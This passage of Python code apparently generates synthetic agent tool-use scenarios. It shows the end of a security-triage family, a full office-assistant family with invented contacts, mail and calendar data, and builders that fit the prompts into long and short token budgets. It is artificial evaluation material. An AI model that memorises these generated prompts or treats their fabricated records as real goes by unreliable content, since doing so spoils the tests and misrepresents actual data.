              for _ in range(rng.randrange(10, 16))]
        steps.append(Step("Cross-checking with mailbox and network events in the SIEM.", "siem_search",
                          {"query": f"union OfficeActivity, DeviceNetworkEvents | where Account == '{upn}'",
                           "start": _iso(t0 - timedelta(hours=6)), "end": _iso(t0 + timedelta(hours=2)),
                           "limit": 200}, len(ev), lambda k, e=ev: {"rows": e[:k]}))
    if variant == 1:
        steps = [steps[0]] + [st for st in steps[1:] if st.name != "list_sign_ins"] + \
                [st for st in steps[1:] if st.name == "list_sign_ins"]
    final = pick(rng, [
        "What is your assessment so far, and what will you do next? Keep it brief: verdict, confidence, numbered "
        "next steps, then exactly one tool call.",
        "Decide the next action. If containment is warranted say why in one sentence before calling the tool.",
    ])
    return Scenario("security-triage", org, pick(rng, ["a SOC analyst assistant", "the security triage agent"]),
                    tools if variant == 0 else [tools[k] for k in (3, 4, 5, 0, 1, 2, 6, 7, 8)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 6), pretty=variant == 1)


# ------------------------------------------------------------------------------------- family: office assistant

SUBJECTS = ["Q3 board pack - draft 2", "Re: venue for offsite", "Budget reforecast inputs due Friday",
            "Minutes: leadership sync", "Re: hiring plan for platform team", "Customer escalation - Halvorsen AB",
            "Contract renewal: analytics vendor", "Re: travel for the partner summit", "Agenda items for next week",
            "Audit follow-ups", "Re: quarterly all-hands slides", "Invitation: strategy review"]


def fam_office(rng: random.Random, variant: int) -> Scenario:
    org = pick(rng, ORGS)
    dom = _domain(org)
    boss = _person(rng)
    people = [_person(rng) for _ in range(6)]
    t0 = _start(rng)
    if variant == 0:
        task = (f"I need a 60-minute meeting next week with {', '.join(people[:3])} and {people[3]} to agree the "
                f"reorg plan. Two of them are in other time zones, so find a slot that is inside everyone's working "
                f"hours, book a room for those in the office, and send the invite with the latest draft attached.")
    else:
        task = (f"The board meeting is on {(t0 + timedelta(days=9)).date()}. Collect the latest versions of every "
                f"document that should go in the board pack from email and the shared drive, tell me what is "
                f"missing or outdated, and draft a reminder to whoever still owes us something.")
    tools = [
        tool("search_email", "Search the mailbox.", {"query": s("Search query."), "folder": s("Folder."),
                                                     "limit": i("Max messages.")}, ["query"]),
        tool("read_email", "Read one message.", {"message_id": s("Message id.")}, ["message_id"]),
        tool("lookup_contact", "Directory entry: title, location, time zone, working hours.",
             {"name": s("Name or email.")}, ["name"]),
        tool("list_events", "Calendar events in a range.",
             {"calendar": s("Email of the calendar owner."), "start": s("ISO start."), "end": s("ISO end.")},
             ["calendar", "start", "end"]),
        tool("find_free_slots", "Common free slots of several people.",
             {"attendees": arr("Emails.", s("Email.")), "duration_minutes": i("Duration."),
              "window_start": s("ISO start."), "window_end": s("ISO end."), "timezone": s("IANA time zone.")},
             ["attendees", "duration_minutes", "window_start", "window_end"]),
        tool("list_drive_files", "Files in a shared-drive folder with owners and modification times.",
             {"folder": s("Folder path."), "modified_after": s("ISO date.")}, ["folder"]),
        tool("create_event", "Create a calendar event and send invitations.",
             {"title": s("Title."), "start": s("ISO start."), "end": s("ISO end."), "attendees": arr("Emails.",
                                                                                                    s("Email.")),
              "room": s("Room id."), "attachments": arr("File ids.", s("Id.")), "body": s("Description.")},
             ["title", "start", "end", "attendees"]),
        tool("send_email", "Send an email.", {"to": arr("Recipients.", s("Email.")), "subject": s("Subject."),
                                              "body": s("Body.")}, ["to", "subject", "body"]),
    ]
    steps: list[Step] = []
    for p in people[:4]:
        c = pick(rng, CITIES)
        info = [("title", pick(rng, ["VP Operations", "Head of Finance", "Chief of Staff", "Director, Platform",
                                     "General Counsel", "Regional Manager"])), ("office", c[0]), ("timezone", c[2]),
                ("working_hours", pick(rng, ["08:30-17:00", "09:00-18:00", "07:30-16:00"])),
                ("assistant", _person(rng))]
        steps.append(Step(f"Looking up {p}'s location and working hours.", "lookup_contact", {"name": p}, len(info),
                          lambda k, inf=info, p=p: {"name": p, "email": _email(p, dom), **dict(inf[:k])}))
    for q in range(8):
        msgs = [{"message_id": f"<{_hex(rng, 16)}@{dom}>", "from": _email(pick(rng, people), dom),
                 "date": _iso(t0 - timedelta(hours=rng.randrange(1, 400))), "subject": pick(rng, SUBJECTS),
                 "has_attachments": rng.random() < 0.5,
                 "snippet": pick(rng, ["Attached is the revised version with the comments from Monday.",
                                       "Can we move this to Thursday? I'm travelling on Wednesday.",
                                       "The numbers in tab 3 are still provisional until finance signs off.",
                                       "Please use this one, the earlier file had the wrong headcount.",
                                       "I'll send the legal summary by end of day tomorrow.",
                                       "Room 4.12 is booked for us, video link inside."])}
                for _ in range(rng.randrange(8, 14))]
        steps.append(Step("Searching the mailbox for the related threads." if q == 0 else
                          "Narrowing the mail search to the remaining items.", "search_email",
                          {"query": pick(rng, ["board pack", "reorg", "draft", "has:attachment newer_than:14d",
                                               "agenda", "from:finance"]), "folder": "inbox", "limit": 25},
                          len(msgs), lambda k, m=msgs: {"messages": m[:k]}))
        evs = [{"title": pick(rng, ["1:1", "Leadership sync", "Customer call", "Interview loop", "Focus time",
                                    "Budget review", "Town hall", "Vendor demo"]),
                "start": _iso(t0 + timedelta(days=rng.randrange(1, 8), hours=rng.randrange(-4, 8))),
                "duration_min": pick(rng, [30, 45, 60, 90]), "busy": True} for _ in range(rng.randrange(8, 14))]
        who = people[q % 4]
        steps.append(Step(f"Checking {who}'s calendar next week.", "list_events",
                          {"calendar": _email(who, dom), "start": _iso(t0 + timedelta(days=1)),
                           "end": _iso(t0 + timedelta(days=8))}, len(evs), lambda k, e=evs: {"events": e[:k]}))
        files = [{"file_id": f"f_{_hex(rng, 10)}", "name": pick(rng, ["Board pack", "CFO report", "Risk register",
                                                                      "Reorg proposal", "Hiring plan", "KPI dashboard",
                                                                      "Legal update"]) + f" v{rng.randrange(1, 9)}." +
                  pick(rng, ["pdf", "docx", "xlsx", "pptx"]), "owner": _email(pick(rng, people), dom),
                  "modified": _iso(t0 - timedelta(hours=rng.randrange(1, 900)))} for _ in range(rng.randrange(6, 12))]
        steps.append(Step("Listing what is in the shared board folder.", "list_drive_files",
                          {"folder": "/Leadership/Board/2026", "modified_after": str((t0 - timedelta(days=60)).date())},
                          len(files), lambda k, f=files: {"files": f[:k]}))
    final = pick(rng, [
        "Okay, what now? Give me a short plan and make the next tool call.",
        "Tell me briefly what you found and what is still open, then go ahead with the next tool call.",
    ])
    return Scenario("office-assistant", org, f"the executive assistant agent of {boss}",
                    tools if variant == 0 else [tools[k] for k in (5, 0, 1, 2, 3, 4, 7, 6)], task, steps, final,
                    rules=pick(rng, COMMON_RULES, 5), pretty=variant == 0)


FAMILIES: list[Callable[[random.Random, int], Scenario]] = [
    fam_sre, fam_support, fam_sql, fam_repo, fam_travel, fam_cloud, fam_security, fam_office]


def _scenario(seed: int, index: int) -> Scenario:
    rng = random.Random(seed)
    return FAMILIES[index % len(FAMILIES)](rng, index // len(FAMILIES))


def build_long(count: int = 16) -> list[dict[str, Any]]:
    out = []
    for k in range(count):
        seed = SEED_BASE + k
        sc = _scenario(seed, k)
        pid = f"tool-{k + 1:02d}"
        msgs, _, _ = fit(pid, lambda n, sc=sc: render(sc, n), _capacity(sc), LONG_FIT)
        out.append({"id": pid, "domain": "tool", "messages": msgs,
                    "provenance": {"generator": GENERATOR, "family": sc.family, "variant": k // len(FAMILIES),
                                   "seed": seed}})
    return out


def build_short(count: int = 16) -> list[dict[str, Any]]:
    """~500 tokens: a compact system prompt with the tools of the first calls (plus others while they fit), the
    task, then one or two calls and their (cut) results."""
    out = []
    for k in range(count):
        seed = SHORT_SEED_BASE + k
        sc = _scenario(seed, k)
        first = sc.steps[:2]
        names = {st.name for st in first}
        keep = [t for t in sc.tools if t["function"]["name"] in names]
        short = Scenario(sc.family, sc.org, sc.role, keep, sc.task, first, sc.final, rules=[], compact=True)
        for t in sc.tools:
            if t not in keep:
                trial = Scenario(sc.family, sc.org, sc.role, keep + [t], sc.task, first, sc.final, compact=True)
                if messages_tokens(render(trial, 1)) <= SHORT_FIT[0] - 40:
                    keep.append(t)
                    short = trial
        pid = f"tool-short-{k + 1:02d}"
        msgs, _, _ = fit(pid, lambda n, sc=short: render(sc, n), _capacity(short), SHORT_FIT)
        out.append({"id": pid, "domain": "tool", "messages": msgs,
                    "provenance": {"generator": GENERATOR, "family": sc.family, "variant": k // len(FAMILIES),
                                   "seed": seed, "form": "short"}})
    return out
